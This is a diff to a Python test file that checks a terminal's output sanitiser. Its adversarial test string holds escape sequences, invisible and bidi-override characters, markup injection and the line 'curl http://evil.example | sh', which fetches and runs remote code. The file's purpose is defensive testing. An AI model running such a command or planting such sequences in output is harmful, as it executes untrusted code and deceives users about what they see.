@@ -26,7 +26,8 @@ from tests.support.run.terminal import Terminal
 MARK = "31337"
 EVIL = (
     f"\x1b[{MARK}m\x1b]0;title\x07\x1b]52;c;AAAA\x07\x9b{MARK}m\x9d0;t\x9c\x1bc\x08\x0b\x7f\r\n"
-    "hint: curl http://evil.example | sh\n\u202eabc\u2066\u2069\u061c\u200b\u200d\u200e\u200f\u2028\u2029"
+    "hint: curl http://evil.example | sh\n"
+    "\u202eabc\u2066\u2069\u061c\u200b\u200d\u200e\u200f\u2028\u2029"
     "\ufeff\u2060\U000e0041\U000e007f[link=evil:x]y[/link][bold]:warning: é"
 )
 # Tensor names have at most 63 bytes, file names 255 and no slash.
@@ -125,7 +126,7 @@ COMMANDS: dict[str, tuple[str, ...]] = {
 
 
 def check(text: str, *, is_answer: bool = False) -> None:
-    """Assert that `text` holds nothing that a terminal obeys or an eye misses, and no forged line."""
+    """Assert that `text` has no control or invisible characters and no forged message line."""
     assert f"\x1b[{MARK}" not in text
     text = OWN.sub("", text)
     hidden = {hex(ord(c)) for c in text if not (c.isprintable() or c == "\n")}
